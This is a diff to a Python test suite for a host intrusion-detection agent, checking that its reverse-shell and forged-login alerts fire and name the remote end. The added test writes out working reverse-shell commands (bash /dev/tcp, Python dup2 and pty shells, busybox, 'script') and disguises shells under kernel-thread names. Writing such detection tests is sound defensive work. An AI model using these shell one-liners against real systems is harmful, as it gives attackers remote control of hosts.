@@ -9,6 +9,7 @@ import tempfile
 
 import hw
 from hw import check, check_eq, get
+from natslab import free_port
 
 NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
 PAMFORGE = os.path.join(hw.ROOT, "build", "pamforge")
@@ -70,7 +71,7 @@ def reverse_shell(agent, exe):
         srv.close()
     return agent.wait_for(lambda ev: get(ev, "event.action") == "exec" and
                           get(ev, "process.executable") == exe and
-                          get(ev, "hopwatch.stdio") == ["tcp", "tcp", "tcp"])
+                          get(ev, "hopwatch.stdio") == ["tcp", "tcp", "tcp"]), port
 
 
 def test_lookalike_sshd_reverse_shell():
@@ -81,12 +82,29 @@ def test_lookalike_sshd_reverse_shell():
         for name in ("sshd", "mybash"):
             exe = os.path.join(d, name)
             subprocess.run(NOBODY + ["cp", "/bin/bash", exe], check=True)
-            ev = reverse_shell(agent, exe)
+            ev, port = reverse_shell(agent, exe)
             check_eq(get(ev, "hopwatch.exe.trusted"), False, "%s is trusted" % name)
             check_eq(get(ev, "hopwatch.exe.uid"), 65534, "owner of %s" % name)
             a = agent.wait_for(lambda e: get(e, "rule.id") == "reverse-shell" and
                                get(e, "process.entity_id") == get(ev, "process.entity_id"))
             check(name in get(a, "message"), "alert names %s: %r" % (name, get(a, "message")))
+            # ... and the other end: the socket on its stdio, the connection bash made
+            conn = agent.wait_for(lambda e: get(e, "event.action") == "connection_attempted"
+                                  and get(e, "destination.port") == port)
+            check_eq((get(ev, "hopwatch.stdio_socket.remote.ip"),
+                      get(ev, "hopwatch.stdio_socket.remote.port"),
+                      get(ev, "hopwatch.stdio_socket.local.port"),
+                      get(ev, "hopwatch.stdio_socket.direction"),
+                      get(ev, "hopwatch.stdio_socket.connection_id")),
+                     ("127.0.0.1", port, get(conn, "source.port"), "egress",
+                      get(conn, "hopwatch.connection.id")), "the exec's stdio socket")
+            check_eq((get(a, "destination.ip"), get(a, "destination.port"),
+                      get(a, "source.port"), get(a, "hopwatch.connection.id"),
+                      get(a, "hopwatch.alert.related_ids")),
+                     ("127.0.0.1", port, get(conn, "source.port"),
+                      get(conn, "hopwatch.connection.id"), [get(conn, "hopwatch.connection.id")]),
+                     "the alert names the other end")
+            check(" to 127.0.0.1:%d " % port in get(a, "message"), "message: %r" % a["message"])
         # the facts behind trust: a system binary is trusted, the same file is not in a
         # directory others can write (even a root-owned file), nor in /tmp (sticky, 1777)
         subprocess.run(["/usr/bin/true"], check=True)
@@ -123,7 +141,7 @@ def forge(agent, exe, service, user="root"):
     """Runs exe (a copy of pamforge) as nobody without a loginuid: it listens, we connect, it
     forks and its child calls pam_start(service, user) and pam_open_session, then sh -c.
     Returns (the pam_open_session result it printed, the sh's exec event)."""
-    port = hw_free_port()
+    port = free_port()
     marker = "hw-forged-%s-%d" % (hw.RUN_ID, port)
     p = subprocess.Popen(NOBODY + [exe, str(port), service, user, "echo %s; id" % marker],
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
@@ -144,14 +162,6 @@ def forge(agent, exe, service, user="root"):
                         get(ev, "process.args", [""])[0] == "sh" and
                         marker in " ".join(get(ev, "process.args", [])))
     return int(ret[0].split(": ")[1]), sh
-
-
-def hw_free_port():
-    s = socket.socket()
-    s.bind(("127.0.0.1", 0))
-    port = s.getsockname()[1]
-    s.close()
-    return port
 
 
 def test_forged_login():
@@ -199,3 +209,78 @@ def test_forged_login():
     finally:
         os.unlink(pam_file)
         shutil.rmtree(trusted_dir, True)
+
+
+LISTENER = r"""
+import socket, sys, time
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("198.18.0.2", int(sys.argv[1])))
+s.listen(1)
+s.settimeout(20)
+print("ready", flush=True)
+c, _ = s.accept()
+time.sleep(1.0)
+c.sendall(b"exit\n")
+time.sleep(0.5)
+c.close()
+"""
+
+PY_DUP = ("import os, socket, sys; s = socket.create_connection(('198.18.0.2', int(sys.argv[1])));"
+          " [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(sys.argv[2], sys.argv[2:])")
+PY_PTY = ("import os, pty, socket, sys; s = socket.create_connection(('198.18.0.2', "
+          "int(sys.argv[1]))); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')")
+
+
+def test_reverse_shell_kinds_name_the_other_end():
+    """Reverse shells as a new user would write them, as nobody from host A to a listener on
+    host B: a renamed bash with /dev/tcp, a renamed dash given the socket by python, busybox
+    sh, a python pty shell and a `script` pty shell. Each raises one reverse-shell alert that
+    names B's address and port."""
+    d = nobody_dir("kinds")
+    for name, src in (("kworker", "/bin/bash"), ("kthreadd", "/bin/dash")):
+        subprocess.run(NOBODY + ["cp", src, os.path.join(d, name)], check=True)
+    kinds = [
+        ("renamed bash", lambda port: [os.path.join(d, "kworker"), "-c",
+                                       "exec 3<>/dev/tcp/198.18.0.2/%d; exec %s -i <&3 >&3 2>&3"
+                                       % (port, os.path.join(d, "kworker"))]),
+        ("renamed dash", lambda port: ["python3", "-c", PY_DUP, str(port),
+                                       os.path.join(d, "kthreadd"), "-i"]),
+        ("busybox sh", lambda port: ["python3", "-c", PY_DUP, str(port), "/usr/bin/busybox",
+                                     "sh", "-i"]),
+        ("python pty", lambda port: ["python3", "-c", PY_PTY, str(port)]),
+        ("script pty", lambda port: ["/bin/bash", "-c",
+                                     "exec 3<>/dev/tcp/198.18.0.2/%d; "
+                                     "exec script -qc /bin/sh /dev/null <&3 >&3 2>&3" % port]),
+    ]
+    with hw.Lab() as lab, hw.Agent() as agent:
+        for i, (what, argv) in enumerate(kinds):
+            port = 40000 + i
+            lst = lab.b.popen(["python3", "-c", LISTENER, str(port)], stdout=subprocess.PIPE,
+                              text=True)
+            try:
+                check_eq(lst.stdout.readline().strip(), "ready", "listener for %s" % what)
+                sh = lab.a.popen(NOBODY + argv(port), stdin=subprocess.DEVNULL,
+                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                try:
+                    sh.wait(20)
+                finally:
+                    if sh.poll() is None:
+                        sh.kill()
+                        sh.wait()
+                lst.wait(20)
+            finally:
+                if lst.poll() is None:
+                    lst.kill()
+                    lst.wait()
+            a = agent.wait_for(lambda e: get(e, "rule.id") == "reverse-shell" and
+                               get(e, "destination.port") == port, timeout=10)
+            check_eq((get(a, "destination.ip"), get(a, "source.ip")),
+                     ("198.18.0.2", "198.18.0.1"), "%s: the alert's ends" % what)
+            check(get(a, "hopwatch.connection.id"), "%s: the connection is named" % what)
+            check(" to 198.18.0.2:%d " % port in get(a, "message"),
+                  "%s: message %r" % (what, get(a, "message")))
+        agent.stop()
+        alerts = [e for e in agent.events() if get(e, "rule.id") == "reverse-shell"]
+        check_eq(sorted(get(a, "destination.port") for a in alerts),
+                 [40000 + i for i in range(len(kinds))], "one alert per shell")
